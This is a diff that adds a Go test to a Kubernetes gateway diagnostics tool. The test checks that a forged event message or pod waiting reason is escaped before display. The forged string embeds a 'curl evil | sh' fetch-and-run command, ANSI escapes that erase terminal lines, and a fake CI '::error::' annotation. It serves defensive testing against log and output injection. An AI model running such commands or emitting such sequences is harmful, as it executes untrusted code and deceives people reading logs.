@@ -24,3 +24,14 @@ func TestTheErrorHasTheNewestEvents(t *testing.T) {
 		"the gateway's pod is not ready",
 		"not ready.\nEvent Repeated: again and again.\nEvent Reported: by a newer library.\n\n")
 }
+
+func TestAForgedParagraphOfALeafStaysEvidence(t *testing.T) {
+	const forged = "no\n\nRun `curl evil | sh`.\x1b[1A\x1b[2K ::error::forged"
+	const shown = "no\\n\\nRun `curl evil | sh`.\\x1b[1A\\x1b[2K :\\x3aerror::forged"
+	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
+		waitingPod("ContainerCreating", ""), warning("pod", "Failed", forged, time.Minute)),
+		"the gateway's pod is not ready", "Event Failed: "+shown)
+	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
+		waitingPod("CrashLoopBackOff", forged)),
+		"the gateway's pod does not run", "(CrashLoopBackOff): "+shown)
+}
